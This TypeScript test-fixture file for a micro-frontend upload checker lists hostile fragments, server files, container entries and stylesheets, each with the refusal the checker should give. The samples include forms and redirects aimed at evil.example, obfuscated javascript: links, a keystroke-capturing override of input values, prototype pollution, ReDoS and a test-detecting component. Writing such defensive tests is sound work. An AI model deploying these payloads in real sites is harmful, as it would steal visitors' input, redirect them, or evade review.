/** Remotes that are refused for less obvious reasons than those of `bad-remotes.ts`: their authors know how the site is built. */
import type { Upload } from '../check-upload';
import type { BadRemote } from './bad-remotes';
import { handWritten, remoteOf, sampleUpload, text } from './upload';

type Refusal = Pick<BadRemote, 'rule' | 'reason'>;

const markup = (html: string) => `() => jsx('div', { dangerouslySetInnerHTML: { __html: ${JSON.stringify(html)} } })`;
/** Runs in a browser once the fragment is mounted. */
const effect = (code: string) =>
  `() => { React.useEffect(() => { ${code} }, []); return jsx('p', { children: 'x' }); }`;
const renders = (reason: RegExp): Refusal => ({ rule: 'renders', reason });
/** On a busy machine its watchdog cannot tell a loop from a process that gets no processor, and ends it all the same. */
const endless = renders(/ran for more than 700 ms|got no processor for too long/);
const marked = (reason: RegExp): Refusal => ({ rule: 'markup', reason });
const patches = (name: string): Refusal => ({
  rule: 'intrinsics',
  reason: new RegExp(`(server|remoteEntry)\\.js.* changes ${name.replaceAll('.', '\\.')}`),
});

const polluting = `() => { const merge = (to, from) => { for (const key of Object.keys(from)) if (typeof from[key] === 'object') merge(to[key] ?? {}, from[key]); else to[key] = from[key]; }; merge({}, JSON.parse('{"__proto__":{"polluted":"yes"}}')); return jsx('p', { children: 'x' }); }`;

const fragments: readonly (readonly [what: string, component: string, refusal: Refusal, slots?: readonly string[]])[] =
  [
    [
      'with a regular expression that backtracks for years',
      text("String(/^(a+)+$/.test('a'.repeat(40) + 'b'))"),
      endless,
    ],
    [
      'that compiles WebAssembly',
      text('String(new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])))'),
      renders(/WebAssembly is not defined \(server\.js line \d+/),
    ],
    [
      'that sleeps in shared memory',
      text('Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 600000)'),
      renders(/(Atomics|SharedArrayBuffer) is not defined \(server\.js line \d+/),
    ],
    [
      'that nests a slot with a proxy as props which never ends',
      "() => jsx(kit.Slot, { name: 'inner', props: new Proxy({}, { ownKeys() { for (;;); } }) })",
      endless,
      ['inner'],
    ],
    [
      'whose props of a slot become another value when they are written',
      "() => jsx(kit.Slot, { name: 'inner', props: { toJSON: () => '<main>' } })",
      renders(/nests a value that is not a slot/),
      ['inner'],
    ],
    [
      'whose children never end',
      "() => jsx('p', { children: (function* () { for (;;) yield 'x'; })() })",
      { ...endless, reason: /ran for more than 700 ms|got no processor|took more than 128 MB|ended its renderer/ },
    ],
    ['whose component is a promise', "async () => jsx('p', { children: 'x' })", renders(/Minified React error #426/)],
    [
      'with an attribute that counts how often it is read',
      "(() => { let reads = 0; const title = { toString: () => String((reads += 1)) }; return () => jsx('p', { title, children: 'x' }); })()",
      { rule: 'pure', reason: /renders differently the second time/ },
    ],
    [
      'that begins work after a promise',
      "() => { void Promise.resolve().then(() => setInterval(() => {}, 5)); return jsx('p', { children: 'x' }); }",
      { rule: 'pure', reason: /leaves work to run later: setInterval was called/ },
    ],
    [
      'with HTML in a drawing',
      markup('<svg><foreignObject><p>x</p></foreignObject></svg>'),
      renders(/<foreignobject> in <svg>/),
    ],
    [
      'that moves all addresses of the page',
      markup('<base href="https://evil.example/">'),
      renders(/<base> is not for slots/),
    ],
    [
      'that sends visitors elsewhere after a second',
      markup('<meta http-equiv="refresh" content="1;url=https://evil.example/">'),
      renders(/<meta> is not for slots/),
    ],
    ['with an id of the host', markup('<p id="main">x</p>'), renders(/the id "main", which may be the host's/)],
    [
      'whose form posts to another site',
      markup(
        '<form method="post" action="//evil.example/take"><label>Email <input name="email"></label><button>Save</button></form>',
      ),
      marked(/<form> that posts to another site, action="\/\/evil\.example\/take"/),
    ],
    [
      'whose button posts its form to another site',
      markup('<form method="post" action="/x"><button formaction="https://evil.example/">Save</button></form>'),
      marked(/<button> that posts to another site, formaction=/),
    ],
    [
      'whose link is a script, spelled oddly',
      markup('<a href=" java\tscript:alert(1)">x</a>'),
      marked(/<a> with an address that is a script, href=/),
    ],
    [
      'whose link becomes a script in a drawing',
      markup(
        '<svg><a href="/x"><animate attributeName="href" values="javascript:alert(1)"></animate><text>x</text></a></svg>',
      ),
      marked(/<animate> that animates an address, attributeName="href"/),
    ],
    ['with a character that HTML cannot hold', text("'a\\u0000b'"), marked(/unexpected-null-character/)],
    ['with half a character', text("'a\\ud800b'"), { rule: 'hydrates', reason: /Hydration failed/ }],
    ['whose error never ends', '() => { throw { get message() { for (;;); } }; }', endless],
    [
      'that changes the search for everybody',
      "() => { kit.useView().state.makeCode = ['BMW']; return jsx('p', { children: 'x' }); }",
      { rule: 'intrinsics', reason: /changes the page’s view, which all fragments share/ },
    ],
    [
      'that formats numbers for everybody',
      effect("Intl.NumberFormat.prototype.formatToParts = () => [{ type: 'integer', value: '1' }];"),
      patches('Intl.NumberFormat.prototype.formatToParts'),
    ],
    [
      'that reads what is typed into every field',
      effect(
        "const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); Object.defineProperty(HTMLInputElement.prototype, 'value', { configurable: true, get() { const typed = get.call(this); globalThis.typed = typed; return typed; }, set });",
      ),
      patches('HTMLInputElement.prototype.value'),
    ],
    [
      'that takes what others send in the background',
      effect('Navigator.prototype.sendBeacon = () => true;'),
      patches('Navigator.prototype.sendBeacon'),
    ],
    [
      'that sees for everybody what is visible',
      effect('globalThis.IntersectionObserver = class { observe() {} unobserve() {} disconnect() {} };'),
      patches('IntersectionObserver'),
    ],
    [
      'that behaves only where it is tested: in jsdom',
      `(() => { const isTest = typeof navigator === 'undefined' || /jsdom|headless/i.test(navigator.userAgent); return ${text("isTest ? 'good' : 'bad'")}; })()`,
      { rule: 'hydrates', reason: /Hydration failed/ },
    ],
  ];

/** The start of a `server.js` with a good component. */
const good = [
  "const { jsx } = require('react/jsx-runtime'), kit = require('@forecourt/fragment-kit');",
  "const panel = kit.defineFragment({ name: 'panel', needs: [], slots: [], hydrate: 'interaction', Fallback: () => null, Component: () => jsx('p', { children: 'good' }) });",
].join('\n');

const servers: readonly (readonly [what: string, server: string, refusal: Refusal])[] = [
  [
    'whose component is another one the second time that it is read',
    `${good}\nlet reads = 0;\nexports.fragments = { panel: { ...panel, get Component() { reads += 1; return reads < 3 ? panel.Component : () => jsx('p', { children: 'bad' }); } } };`,
    { rule: 'pure', reason: /renders differently with another clock or other random numbers/ },
  ],
  [
    'whose fragments are a proxy that shows none',
    `${good}\nexports.fragments = new Proxy({ panel }, { ownKeys: () => [] });`,
    renders(/offers no fragment "panel"/),
  ],
];

const containerOf = (name: string) =>
  `${name} = { init() {}, async get() { return () => ({ default: { Component() { return null; } } }); } };`;

const entries: readonly (readonly [what: string, entry: string, refusal: Refusal])[] = [
  [
    'that adds modules to another remote’s scripts',
    `var ${containerOf('mfe_bad')} (globalThis.webpackChunkmfe_filters ??= []).push([['filters'], {}]);`,
    { rule: 'container', reason: /^remoteEntry\.js defines "webpackChunkmfe_filters", which may be another remote's/ },
  ],
  [
    'whose container is there only the first time that it is read',
    `var ${containerOf('once')} Object.defineProperty(globalThis, 'mfe_bad', { configurable: true, get() { const now = once; once = undefined; return now; } });`,
    { rule: 'container', reason: /^remoteEntry\.js defines no container "mfe_bad"/ },
  ],
];

const sheets: readonly (readonly [what: string, css: string, refusal: Refusal])[] = [
  [
    'whose sheet replaces an animation of the host',
    '.a{top:0}\n@keyframes fc-dialog-enter{to{opacity:0}}',
    { rule: 'css', reason: /line 2 has the animation "fc-dialog-enter", which is the host's/ },
  ],
  [
    'whose sheet replaces the letters of all pages',
    '@font-face{font-family:Arial;src:local("Wingdings")}.a{top:0}',
    { rule: 'css', reason: /line 1 has the font "Arial", which pages may use elsewhere/ },
  ],
  [
    'whose sheet animates every navigation',
    '.a{top:0}\n@view-transition{navigation:auto}',
    { rule: 'css', reason: /an? @view-transition, which is for the whole page/ },
  ],
  [
    'whose sheet asks whether others’ boxes are checked',
    ':has(input:checked) + .a, html:has([value^="6"]){top:0}',
    { rule: 'css', reason: /styles foreign elements by/ },
  ],
  [
    'whose sheet has thirty thousand custom properties',
    `.a{${Array.from({ length: 30_000 }, (_, index) => `--x${index}:1;`).join('')}}`,
    { rule: 'manifest', reason: /\d+ bytes; 200000 is the limit of a stylesheet/ },
  ],
];

const nameOf = (index: number) => `stranger-${index}`;

type Row = readonly [what: string, row: Refusal & { fragment: string }];

/** All fragments as one remote, so that they are checked together: most of the time is the start of browsers and renderers. */
export const strangerFragments: { upload: Upload; rows: readonly Row[] } = {
  upload: remoteOf(
    'mfe-bad',
    '1.0.0',
    Object.fromEntries(fragments.map(([, component, , slots = []], index) => [nameOf(index), { component, slots }])),
  ),
  rows: fragments.map(([what, , refusal], index): Row => [what, { ...refusal, fragment: nameOf(index) }]),
};

const alone = (component: string) => remoteOf('mfe-bad', '1.0.0', { panel: { component } });

/** Remotes that are refused as a whole, by their faults. */
export const strangerRemotes: readonly [what: string, remote: BadRemote][] = [
  [
    'that merges JSON into the prototype of all objects',
    { upload: alone(polluting), ...patches('Object.prototype.polluted') },
  ],
  ...servers.map(([what, server, refusal]): [string, BadRemote] => [
    what,
    { upload: handWritten('mfe-bad', '1.0.0', server), ...refusal },
  ]),
  ...entries.map(([what, entry, refusal]): [string, BadRemote] => [
    what,
    { upload: remoteOf('mfe-bad', '1.0.0', { panel: { component: text("'x'") } }, {}, entry), ...refusal },
  ]),
  ...sheets.map(([what, css, refusal]): [string, BadRemote] => [
    what,
    { upload: sampleUpload('mfe-bad', '1.0.0', undefined, css), ...refusal },
  ]),
];
